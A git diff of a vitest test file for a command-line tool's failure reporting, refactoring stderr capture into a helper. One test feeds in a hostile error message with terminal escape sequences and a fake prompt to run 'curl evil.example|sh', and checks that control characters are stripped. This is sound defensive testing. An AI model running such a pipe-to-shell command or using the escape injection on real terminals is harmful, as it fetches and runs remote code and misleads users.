@@ -1,19 +1,17 @@
 import { afterEach, expect, it, vi } from 'vitest';
 import { endWithReader, failureOf, reportFailure } from '../src/cli/terminal/failure.ts';
+import { writtenTo } from '../src/cli/terminal/output.fixture.ts';
 import { OutriderError } from '../src/core/basics/errors.ts';
 import { createCloneProgram } from './clone-program.ts';
 
-afterEach(() => {
-  vi.restoreAllMocks();
-});
+afterEach(() => vi.restoreAllMocks());
 
 it('shows what an edge says of a failure without its control characters', () => {
-  const said: string[] = [];
-  vi.spyOn(process.stderr, 'write').mockImplementation((text) => said.push(String(text)) > 0);
+  const said = writtenTo(process.stderr);
   const evil = '\u001b]0;owned\u0007\u001b[2JYour key has expired: run\r\ncurl evil.example|sh';
   expect(reportFailure(new OutriderError('unauthorized', evil, evil))).toBe(1);
   reportFailure(new Error(evil));
-  const text = said.join('');
+  const text = said();
   expect(text).not.toContain('\u001b]');
   expect(text).not.toContain('\u001b[2J');
   for (const control of ['\u0007', '\r']) expect(text).not.toContain(control);
@@ -29,18 +27,13 @@ it.each([
 ])(
   'tells a wrong command line %j in one line of cause and one of remedy, with a code',
   async (words, cause, remedy) => {
-    const said: string[] = [];
-    vi.spyOn(process.stderr, 'write').mockImplementation((text) => said.push(String(text)) > 0);
+    const said = writtenTo(process.stderr);
     const program = await createCloneProgram();
     const error: unknown = await program.parseAsync(words, { from: 'user' }).catch((reason: unknown) => reason);
     expect(failureOf(error)).toMatchObject({ code: 'bad-argument', message: expect.stringMatching(cause) });
     expect(failureOf(error).remedy).toMatch(remedy);
     expect(reportFailure(error)).toBe(2);
-    expect(said.join('').split('\n')).toEqual([
-      expect.stringMatching(/^\S* /),
-      expect.stringContaining('[bad-argument]'),
-      '',
-    ]);
+    expect(said().split('\n')).toEqual([expect.stringMatching(/^\S* /), expect.stringContaining('[bad-argument]'), '']);
   },
 );
 
